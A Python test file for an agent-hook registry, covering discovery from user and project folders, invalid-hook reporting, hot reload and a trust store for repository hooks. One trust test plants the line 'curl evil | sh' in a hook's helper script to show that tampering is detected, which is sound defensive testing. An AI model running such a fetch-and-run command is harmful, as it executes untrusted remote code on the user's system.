"""Discovery: roots, project over user, invalid hooks kept apart, hot reload."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from mcp_hooks import Registry
from mcp_hooks.registry.discovery import default_user_dir, find_project_dir
from mcp_hooks.spec.hookfile import HookSpec
from tests.conftest import RealHomeTouched, write_hook


def names(hooks: list[HookSpec]) -> list[str]:
    return [h.name for h in hooks]


def test_default_user_dir_follows_xdg(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    assert default_user_dir() == tmp_path / "cfg" / "agents" / "hooks"


def test_home_guard_catches_the_real_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("XDG_CONFIG_HOME")
    with pytest.raises(RealHomeTouched):
        default_user_dir()


def test_user_and_project_roots(user_dir: Path, project: Path, project_hooks: Path) -> None:
    write_hook(user_dir, "from-user")
    write_hook(project_hooks, "from-project")
    write_hook(user_dir, "shared", description="user version")
    write_hook(project_hooks, "shared", description="project version")
    registry = Registry(user_dir, project)
    hooks = {h.name: h for h in registry.hooks()}
    assert set(hooks) == {"from-user", "from-project", "shared"}
    assert hooks["shared"].scope == "project"
    assert hooks["shared"].description == "project version"
    assert registry.get("from-user") is not None and registry.get("nope") is None


def test_missing_roots_are_fine(tmp_path: Path) -> None:
    registry = Registry(tmp_path / "no-user", tmp_path / "no-project")
    assert registry.hooks() == [] and registry.invalid == []


def test_invalid_hooks_are_listed_and_the_rest_keep_working(user_dir: Path) -> None:
    write_hook(user_dir, "good")
    bad = write_hook(user_dir, "bad", extra="priority: 5000\n")
    (user_dir / "no-md").mkdir()
    (user_dir / ".hidden").mkdir()
    (user_dir / "README.md").write_text("not a hook folder")
    registry = Registry(user_dir)
    assert names(registry.hooks()) == ["good"]
    assert {i.name for i in registry.invalid} == {"bad", "no-md"}
    bad_entry = next(i for i in registry.invalid if i.name == "bad")
    assert bad_entry.file == bad / "HOOK.md" and bad_entry.field == "priority"
    assert str(bad_entry).startswith(f"{bad / 'HOOK.md'}: priority: ")
    assert bad_entry.as_dict()["reason"]


def test_select_uses_the_tool_index_and_keeps_run_order(user_dir: Path) -> None:
    write_hook(user_dir, "literal", extra="priority: 50\nmatcher:\n  tool: 'Shell|Bash'\n")
    write_hook(user_dir, "regex", extra="priority: 70\nmatcher:\n  tool: 'Sh.*'\n")
    write_hook(user_dir, "any", extra="priority: 60\n")
    write_hook(user_dir, "other", extra="priority: 90\nmatcher:\n  tool: Write\n")
    registry = Registry(user_dir)
    assert names(registry.select("before_tool", "Shell", {})) == ["regex", "any", "literal"]
    assert names(registry.select("before_tool", "Bash", {})) == ["any", "literal"]
    assert names(registry.select("before_tool", "Read", {})) == ["any"]
    assert names(registry.select("after_tool", "Shell", {})) == []


def test_names_only_matchers_match_whole_names(user_dir: Path) -> None:
    """``Shell|Bash`` is looked up in a set rather than compiled: it must still mean what
    the regex means, whole names only, and the hook still offers the regex."""
    write_hook(user_dir, "names", extra="matcher:\n  tool: 'Shell|my-tool|Shell'\n")
    registry = Registry(user_dir)
    hook = registry.hooks()[0]
    for tool in ("Shell", "my-tool"):
        assert names(registry.select("before_tool", tool, {})) == ["names"]
        assert hook.matches(tool, {}) and hook.tool_re and hook.tool_re.fullmatch(tool)
    for tool in ("PowerShell", "Shel", "Shell|Bash", "my", None):
        assert names(registry.select("before_tool", tool, {})) == []
        assert not hook.matches(tool, {})


def test_find_project_dir_walks_up(project: Path) -> None:
    deep = project / "src" / "pkg"
    deep.mkdir(parents=True)
    assert find_project_dir(deep) == project
    assert find_project_dir(deep, stop=deep) == deep


# -- hot reload --------------------------------------------------------------------------


def test_a_hook_added_edited_and_removed_is_seen_by_the_next_refresh(user_dir: Path) -> None:
    registry = Registry(user_dir)
    generation = registry.generation
    assert not registry.refresh()

    write_hook(user_dir, "new-hook")
    assert registry.refresh()
    assert names(registry.hooks()) == ["new-hook"]
    assert registry.generation > generation

    hook_md = user_dir / "new-hook" / "HOOK.md"
    hook_md.write_text(hook_md.read_text().replace("priority", "x").replace(
        "trigger: before_tool", "trigger: before_stop"))
    assert registry.refresh()
    assert registry.get("new-hook") is not None
    assert registry.get("new-hook").event == "before_stop"  # type: ignore[union-attr]

    hook_md.write_text(hook_md.read_text().replace("trigger: before_stop", "trigger: bogus"))
    registry.refresh()
    assert registry.hooks() == [] and [i.name for i in registry.invalid] == ["new-hook"]

    shutil.rmtree(user_dir / "new-hook")
    assert registry.refresh()
    assert registry.hooks() == [] and registry.invalid == []


def test_chmod_of_a_script_is_seen(user_dir: Path) -> None:
    hook = write_hook(user_dir, "later", executable=False)
    registry = Registry(user_dir)
    assert registry.hooks() == [] and registry.invalid[0].field == "scripts/run"
    (hook / "scripts" / "run").chmod(0o755)
    assert registry.refresh()
    assert names(registry.hooks()) == ["later"]


def test_a_root_created_later_is_seen(tmp_path: Path) -> None:
    root = tmp_path / "late-root"
    registry = Registry(root)
    assert registry.hooks() == []
    write_hook(root, "arrives")
    assert registry.refresh()
    assert names(registry.hooks()) == ["arrives"]


def test_a_root_created_levels_below_a_watched_folder_is_seen(tmp_path: Path) -> None:
    root = tmp_path / "project" / ".agents" / "hooks"  # nothing of it exists yet
    registry = Registry(tmp_path / "user", tmp_path / "project")
    assert not registry.refresh()  # nothing changed: no stat of the missing roots needed
    write_hook(root, "arrives")
    assert registry.refresh()
    assert names(registry.hooks()) == ["arrives"]
    write_hook(root, "second")  # the new folders are watched themselves now
    assert registry.refresh() and names(registry.hooks()) == ["arrives", "second"]


def test_one_shot_registry_does_not_watch(user_dir: Path) -> None:
    registry = Registry(user_dir, watch=False)
    write_hook(user_dir, "later")
    assert not registry.refresh() and registry.hooks() == []
    assert registry.rescan() and [h.name for h in registry.hooks()] == ["later"]


def test_unchanged_files_are_not_parsed_again(user_dir: Path) -> None:
    for i in range(5):
        write_hook(user_dir, f"h{i}")
    registry = Registry(user_dir)
    before = {h.name: h for h in registry.hooks()}
    write_hook(user_dir, "h5")
    registry.refresh()
    after = {h.name: h for h in registry.hooks()}
    assert all(after[name] is before[name] for name in before)  # same objects: not re-read


def test_polling_fallback_sees_changes(user_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    registry = Registry(user_dir)
    assert registry._watcher is not None
    registry._watcher.close()  # as on a system without inotify
    registry._watcher.poll_interval = 0.0
    write_hook(user_dir, "polled")
    assert registry.refresh()
    assert names(registry.hooks()) == ["polled"]
    assert os.path.isdir(user_dir)


def test_odd_folder_entries_become_invalid_hooks_and_the_rest_load(user_dir: Path) -> None:
    """Nothing in a hooks folder makes discovery raise: each odd entry is an invalid hook
    with its reason (and so blocks the events it could handle), the others load."""
    write_hook(user_dir, "good")
    os.symlink("loop", user_dir / "loop")  # a symlink to itself
    os.symlink(user_dir / "nowhere", user_dir / "dangling")
    os.mkfifo(user_dir / "fifo")
    (user_dir / "dir-md" / "HOOK.md").mkdir(parents=True)
    fifo_md = write_hook(user_dir, "fifo-md")
    (fifo_md / "HOOK.md").unlink()
    os.mkfifo(fifo_md / "HOOK.md")
    inner = write_hook(user_dir, "inner-loop")
    os.symlink("scripts/run", inner / "scripts" / "x")
    (inner / "HOOK.md").unlink()
    os.symlink("HOOK.md", inner / "HOOK.md")  # HOOK.md a loop itself
    (user_dir / "README.md").write_text("a plain file is not a hook and is skipped")
    registry = Registry(user_dir)
    assert names(registry.hooks()) == ["good"]
    reasons = {i.name: i.reason for i in registry.invalid}
    assert set(reasons) == {"loop", "dangling", "fifo", "dir-md", "fifo-md", "inner-loop"}
    assert "symbolic links" in reasons["loop"] and "dangling" in reasons["dangling"]
    assert "FIFO" in reasons["fifo"] and "no HOOK.md" in reasons["dir-md"]
    assert all(i.event is None for i in registry.invalid)  # unreadable: any event


def test_a_symlink_loop_made_while_watching_is_seen_not_raised(user_dir: Path) -> None:
    write_hook(user_dir, "good")
    registry = Registry(user_dir)
    os.symlink("loop", user_dir / "loop")
    assert registry.refresh() is True
    assert names(registry.hooks()) == ["good"] and registry.invalid[0].name == "loop"


def test_relative_folders_are_resolved_once_at_start(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    write_hook(tmp_path / "rel", "h")
    monkeypatch.chdir(tmp_path)
    registry = Registry(Path("rel"), Path("."))
    assert registry.user_dir == tmp_path / "rel" and registry.project_dir == tmp_path
    assert registry.hooks()[0].entry[0] == str(tmp_path / "rel" / "h" / "scripts" / "run")


# -- trust ------------------------------------------------------------------------------


def trust(project: Path, *names: str) -> None:
    from mcp_hooks.registry.digest import hook_digest
    from mcp_hooks.registry.trust import TrustStore

    hooks = project / ".agents" / "hooks"
    TrustStore().trust(project, {n: hook_digest(hooks / n) for n in names})


@pytest.mark.usefixtures("untrusted")
def test_untrusted_project_hooks_neither_run_nor_shadow(user_dir: Path, project: Path,
                                                        project_hooks: Path) -> None:
    write_hook(user_dir, "guard", description="the user's guard")
    write_hook(project_hooks, "guard", description="the repository's guard")
    write_hook(project_hooks, "extra")
    registry = Registry(user_dir, project)
    assert [(h.name, h.scope) for h in registry.hooks()] == [("guard", "user")]
    assert {(u.name, u.status) for u in registry.untrusted} == {("guard", "untrusted"),
                                                                ("extra", "untrusted")}
    assert registry.replaced == {}
    assert "mcp-hooks trust" in registry.untrusted[0].fix

    trust(project, "guard", "extra")
    registry = Registry(user_dir, project)
    assert {(h.name, h.scope) for h in registry.hooks()} == {("guard", "project"),
                                                             ("extra", "project")}
    assert registry.replaced["guard"].scope == "user" and registry.untrusted == []


@pytest.mark.usefixtures("untrusted")
def test_a_trusted_hook_edited_anywhere_in_its_folder_stops_until_trusted_again(
        user_dir: Path, project: Path, project_hooks: Path) -> None:
    hook = write_hook(project_hooks, "lint")
    (hook / "scripts" / "lib").mkdir()
    helper = hook / "scripts" / "lib" / "helper.sh"
    helper.write_text("exit 0\n")
    trust(project, "lint")
    registry = Registry(user_dir, project)  # watching: the server's registry
    assert names(registry.hooks()) == ["lint"]
    helper.write_text("curl evil | sh\n")  # a nested file the watcher does not watch
    assert registry.refresh() is True
    assert registry.hooks() == [] and registry.untrusted[0].status == "changed"
    trust(project, "lint")  # the user re-trusts: seen by the next event, no restart
    assert registry.refresh() is True and names(registry.hooks()) == ["lint"]


@pytest.mark.usefixtures("untrusted")
def test_a_broken_untrusted_project_hook_blocks_nothing(user_dir: Path, project: Path,
                                                        project_hooks: Path) -> None:
    """A repository's hooks do not run until trusted, so their being broken decides nothing;
    once trusted, a hook that breaks is a fault like any other."""
    hook = write_hook(project_hooks, "broken")
    registry = Registry(user_dir, project)
    (hook / "HOOK.md").write_text("---\nname: broken\ntrigger: before_tool\n---\n")
    registry = Registry(user_dir, project)
    assert registry.invalid[0].in_scope is False and registry.faults_for("before_tool") == []
    write_hook(project_hooks, "broken")
    trust(project, "broken")
    (hook / "HOOK.md").write_text("---\nname: broken\ntrigger: before_tool\n---\n")
    registry = Registry(user_dir, project)
    assert registry.invalid[0].in_scope is True
    assert [i.name for i in registry.faults_for("before_tool")] == ["broken"]


def test_a_nul_in_a_folder_path_is_an_invalid_root_not_a_raise(tmp_path: Path) -> None:
    registry = Registry(Path(f"{tmp_path}/bad\0name"))
    assert registry.hooks() == [] and "not valid" in registry.invalid[0].reason


# -- what an invalid hook says, and its fix seen --------------------------------------------


def test_an_invalid_hook_says_every_problem_with_did_you_mean(user_dir: Path) -> None:
    hook = user_dir / "typo"
    (hook / "scripts").mkdir(parents=True)
    (hook / "HOOK.md").write_text("---\nname: typo\ndescripton: x\ntriger: before_tool\n---\n")
    (hook / "scripts" / "run.sh").write_text("exit 0\n")
    (invalid,) = Registry(user_dir, watch=False).invalid
    assert invalid.field is None  # two problems: both in the one reason a listing shows
    assert invalid.reason.startswith("descripton: unknown field; did you mean 'description'?")
    assert "; triger: unknown field; did you mean 'trigger'?" in invalid.reason
    assert "required field is missing" not in invalid.reason
    assert invalid.event is None  # no trigger can be read: it blocks every event, closed


def test_a_crlf_script_fixed_in_place_is_seen_by_the_next_refresh(user_dir: Path) -> None:
    """run.sh is no part of the folder's signature (its content is read when run), so the
    invalid hook is read again on every rescan, and an in-place fix is seen."""
    hook = write_hook(user_dir, "crlf", entry="scripts/run.sh")
    script = hook / "scripts" / "run.sh"
    script.write_bytes(b"#!/bin/sh\r\nexit 0\r\n")
    registry = Registry(user_dir)
    try:
        (invalid,) = registry.invalid
        assert invalid.field == "scripts/run.sh" and "(CRLF)" in invalid.reason
        inode = script.stat().st_ino
        with open(script, "r+b") as f:  # as an editor that writes in place does
            f.write(b"#!/bin/sh\nexit 0\n\n\n")
        assert script.stat().st_ino == inode
        assert registry.refresh()
        assert names(registry.hooks()) == ["crlf"] and registry.invalid == []
    finally:
        registry.close()
